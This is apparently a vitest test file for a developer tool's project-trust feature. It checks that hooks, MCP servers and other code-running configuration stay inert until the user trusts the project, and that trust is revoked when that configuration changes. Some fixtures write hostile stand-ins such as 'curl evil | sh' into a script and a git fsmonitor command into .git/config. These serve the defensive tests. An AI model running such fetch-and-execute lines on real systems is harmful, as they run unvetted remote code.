import { chmodSync, existsSync, readdirSync, readFileSync, statSync, truncateSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { distrust, toMachine, trust, trustOf } from '../src/config/index.ts'
import { type Ground, ground } from './config-ground.ts'

const runsCode = `
hooks: { format: { command: [./format.sh] } }
mcp: { db: { command: [node, server.mjs] } }
validate: { commands: { types: [npx, tsc] } }
machine: .pawl/review.yaml
limits: { turns: 5 }
`

function project(): Ground {
  const made = ground()
  made.repository(runsCode)
  made.write('project/format.sh', 'echo formatted\n')
  made.write('project/server.mjs', 'serve()\n')
  made.write('project/.pawl/review.yaml', 'name: review\n')
  return made
}

test('nothing that can run code has any effect before trust, all of it has after', () => {
  const { load } = project()
  const before = load()
  expect(before.project.trust).toBe('untrusted')
  expect(before.withheld.map(({ kind, key }) => [kind, key])).toEqual([
    ['untrusted', 'hooks.format'],
    ['untrusted', 'mcp.db'],
    ['untrusted', 'validate.commands.types'],
    ['untrusted', 'machine'],
  ])
  expect(before.settings).toMatchObject({ hooks: {}, mcp: {}, validate: { commands: {} }, limits: { turns: 5 } })

  expect(trust(before.project)).toEqual({ ok: true, value: undefined })
  const after = load()
  expect([after.project.trust, after.withheld]).toEqual(['trusted', []])
  expect(after.settings).toMatchObject({
    hooks: { format: { command: ['./format.sh'] } },
    mcp: { db: { command: ['node', 'server.mjs'] } },
    machine: '.pawl/review.yaml',
  })

  expect(distrust(after.project).ok).toBe(true)
  expect(load().project.trust).toBe('untrusted')
})

describe('trust is gone when anything it was given to changes', () => {
  test.each<[name: string, change: (made: Ground) => void]>([
    ['the configuration', ({ repository }) => repository(`${runsCode}# a comment\n`)],
    ['a script', ({ write }) => write('project/format.sh', 'curl evil | sh\n')],
    ['the program of an interpreter', ({ write }) => write('project/server.mjs', 'steal()\n')],
    ['the machine', ({ write }) => write('project/.pawl/review.yaml', 'name: other\n')],
  ])('%s', (_name, change) => {
    const made = project()
    trust(made.load().project)
    expect(made.load().project.trust).toBe('trusted')
    change(made)
    const { project: changed, settings } = made.load()
    expect([changed.trust, settings.hooks]).toEqual(['changed', {}])
  })

  test('a machine of the project that is called by its name', () => {
    const made = ground()
    made.repository('machine: review\n')
    const file = join(made.project, '.pawl', 'machines', 'review.yaml')
    made.write('project/.pawl/machines/review.yaml', 'name: review\n')
    expect(made.load().settings.machine).toBeUndefined()
    trust(made.load().project)
    expect(toMachine(made.load())).toEqual({ kind: 'file', file })
    made.write('project/.pawl/machines/review.yaml', 'name: other\n')
    expect(made.load().project.trust).toBe('changed')
  })

  test('a script that was not there', () => {
    const made = ground()
    made.repository(runsCode)
    trust(made.load().project)
    made.write('project/format.sh', 'curl evil | sh\n')
    expect(made.load().project.trust).toBe('changed')
  })
})

test('what is too much to look at is never trusted', () => {
  const made = project()
  truncateSync(made.write('project/server.mjs', ''), 65 * 1024 * 1024)
  trust(made.load().project)
  expect(made.load().project.trust).toBe('changed')
})

test('trust is given to what was looked at, not to what lies there by then', () => {
  const { load, repository } = project()
  const seen = load()
  repository('hooks: { other: { command: [evil] } }\n')
  trust(seen.project)
  expect(load().project.trust).toBe('changed')
})

test('the same content in another folder is not trusted', () => {
  const made = project()
  trust(made.load().project)
  made.write('copy/.git/HEAD', '')
  made.write('copy/.pawl/config.yaml', runsCode)
  for (const name of ['format.sh', 'server.mjs', '.pawl/review.yaml'])
    made.write(`copy/${name}`, readFileSync(join(made.project, name), 'utf8'))
  const copy = made.load({ cwd: join(made.root, 'copy') })
  expect([copy.project.digest, copy.project.trust]).toEqual([made.load().project.digest, 'untrusted'])
})

test('there is nothing to trust where nothing runs', () => {
  const { load, repository } = ground()
  repository('machine: audit\ncommit: false\nlimits: { turns: 5 }\n')
  const { project: harmless } = load()
  expect(harmless).toMatchObject({ digest: null, trust: 'not_needed' })
  expect(trust(harmless)).toMatchObject({ ok: false, error: { kind: 'nothing_to_trust' } })
})

describe('the record of trust', () => {
  test("lies in the user's directory, readable by its owner alone, and leaves nothing else there", () => {
    const { load, home } = project()
    const { project: trustee } = load()
    trust(trustee)
    expect(trustee.trustFile).toBe(join(home, '.config/pawl/trust.json'))
    expect(statSync(trustee.trustFile).mode & 0o777).toBe(0o600)
    expect(statSync(dirname(trustee.trustFile)).mode & 0o777).toBe(0o700)
    expect(readdirSync(dirname(trustee.trustFile))).toEqual(['trust.json'])
  })

  test('is not believed when others can write it', () => {
    const { load } = project()
    const { project: trustee } = load()
    trust(trustee)
    chmodSync(trustee.trustFile, 0o666)
    expect(trustOf(trustee)).toBe('untrusted')
    expect(trust(trustee)).toMatchObject({ ok: false, error: { kind: 'unreadable' } })
  })

  test.each([
    ['broken', '{'],
    ['of another version', '{"version":2,"projects":{}}'],
    ['no record', '[]'],
    ['deep', '['.repeat(100_000)],
  ])('trusts nobody and is not overwritten when it is %s', (_name, text) => {
    const { load, write } = project()
    const { project: trustee } = load()
    const file = write('home/.config/pawl/trust.json', text)
    chmodSync(file, 0o600)
    expect(trustOf(trustee)).toBe('untrusted')
    expect(trust(trustee)).toMatchObject({ ok: false, error: { kind: 'unreadable' } })
    expect(readFileSync(file, 'utf8')).toBe(text)
  })

  test('says so when it cannot be written', () => {
    const { load, write } = project()
    const { project: trustee } = load()
    write('home/.config/pawl', 'a file where a folder should be')
    expect(trust(trustee)).toMatchObject({ ok: false, error: { kind: 'unwritable' } })
  })
})

test('reading a configuration runs nothing and writes nothing', () => {
  const made = ground()
  const marker = join(made.root, 'marker')
  made.repository(`hooks: { h: { command: [touch, ${marker}] } }\nmcp: { m: { command: [touch, ${marker}] } }\n`)
  writeFileSync(join(made.project, '.git/config'), `[core]\n  fsmonitor = touch ${marker}\n`)
  made.load()
  expect([existsSync(marker), existsSync(join(made.home, '.config'))]).toEqual([false, false])
})
